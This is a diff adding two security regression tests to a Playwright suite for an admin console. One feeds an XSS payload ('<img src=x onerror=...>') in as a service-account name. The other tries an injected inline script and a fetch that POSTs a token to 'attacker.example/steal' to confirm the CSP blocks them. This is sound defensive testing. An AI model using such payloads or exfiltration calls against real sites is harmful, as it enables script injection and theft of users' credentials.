@@ -190,6 +190,15 @@ describe('the admin console in Chromium', () => {
     await checkAccessibility('end users');
   });
 
+  it('shows markup from the API as text: a hostile account name runs nothing', async () => {
+    const hostile = '<img src=x onerror="window.__injected=1">';
+    await createServiceAccount(page, hostile);
+    await page.getByRole('button', { name: 'I have stored it' }).click();
+    await page.getByRole('link', { name: hostile }).waitFor();
+    expect(await page.evaluate(() => (window as { __injected?: number }).__injected)).toBeUndefined();
+    expect(await page.locator('main img').count()).toBe(0);
+  });
+
   it('deletes the service account', async () => {
     await openSection(page, 'Service accounts');
     await page.getByRole('link', { name: 'billing' }).click();
@@ -207,5 +216,28 @@ describe('the admin console in Chromium', () => {
     expect(cspViolations).toEqual([]);
     expect(Object.keys(accessibility).length).toBeGreaterThanOrEqual(9);
     expect(accessibility).toEqual(Object.fromEntries(Object.keys(accessibility).map((name) => [name, []])));
+  });
+
+  it('has a CSP that refuses an injected inline script and a call to another origin', async () => {
+    const refused = await page.evaluate(async () => {
+      const directives: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
+      const script = document.createElement('script');
+      script.textContent = 'window.__inline = 1';
+      document.body.append(script);
+      const elsewhere = await fetch('https://attacker.example/steal', { method: 'POST', body: 'token' }).then(
+        () => 'sent',
+        () => 'refused',
+      );
+      // Violation events are dispatched asynchronously: wait for both (the test times out if the CSP lets either through).
+      await new Promise<void>((resolve) => {
+        const check = () => (directives.length >= 2 ? resolve() : setTimeout(check, 10));
+        check();
+      });
+      return { ran: (window as { __inline?: number }).__inline, elsewhere, directives };
+    });
+    expect(refused.ran).toBeUndefined();
+    expect(refused.elsewhere).toBe('refused');
+    expect(refused.directives).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
   });
 });
